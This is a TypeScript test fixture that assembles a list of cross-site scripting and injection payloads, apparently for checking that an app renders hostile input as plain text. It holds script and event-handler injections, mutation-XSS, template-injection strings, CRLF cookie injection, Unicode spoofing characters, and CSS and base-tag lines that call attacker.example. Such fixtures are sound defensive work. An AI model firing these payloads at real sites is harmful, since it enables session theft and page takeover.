/**
 * Texts that try to be more than text, each with `{n}` in it, by which it is found again. Whatever runs sets `__xss`; whatever becomes an
 * element has `data-xss`; whatever is fetched is fetched from elsewhere.
 */
const attacks: readonly string[] = [
  '<script data-xss>window.__xss="{n}"</script>',
  '"><img data-xss src=x onerror="window.__xss=`{n}`">',
  `'-alert("{n}")-'`,
  'javascript:window.__xss="{n}"//',
  '</script></style></textarea></title><svg data-xss onload=window.__xss="{n}">',
  '<math><mtext></form><form data-xss><mglyph><style></math><img src onerror=window.__xss="{n}">',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: for whoever makes a template of it
  '{{constructor.constructor("window.__xss={n}")()}} ${window.__xss="{n}"} #{7*7} <%= {n} %>',
  '</style><style data-xss>*{background:url(http://attacker.example/{n})}</style>;}*{display:none}',
  '<a data-xss href="data:text/html,{n}" onmouseover=window.__xss="{n}" style="position:fixed;inset:0">x</a>',
  '<iframe data-xss srcdoc="<script>parent.__xss={n}</script>"></iframe><base data-xss href=//attacker.example/{n}>',
  '\u202egnp.{n}\u202c\u2066\u200f\u200b\ufeff',
  '\r\nSet-Cookie: rowhook_session={n}\r\n\r\n<body data-xss onload=window.__xss="{n}">\u0085\u2028\u001b[31m',
];

/** All of them in one text, for a place that has room. Each place has a number of its own. */
export const hostile = (place: number): string =>
  attacks.map((attack, i) => attack.replaceAll('{n}', mark(place, i))).join(' ');

/** One of them, for a place where all would be too long. */
export const hostileShort = (place: number): string => {
  const i = place % attacks.length;
  return attacks[i]!.replaceAll('{n}', mark(place, i));
};

const mark = (place: number, attack: number): string => `9${String(place).padStart(2, '0')}${attack + 10}7`;

/** Matches where a place's text is shown as text. */
export const markOf = (place: number): RegExp => new RegExp(`9${String(place).padStart(2, '0')}\\d\\d7`);
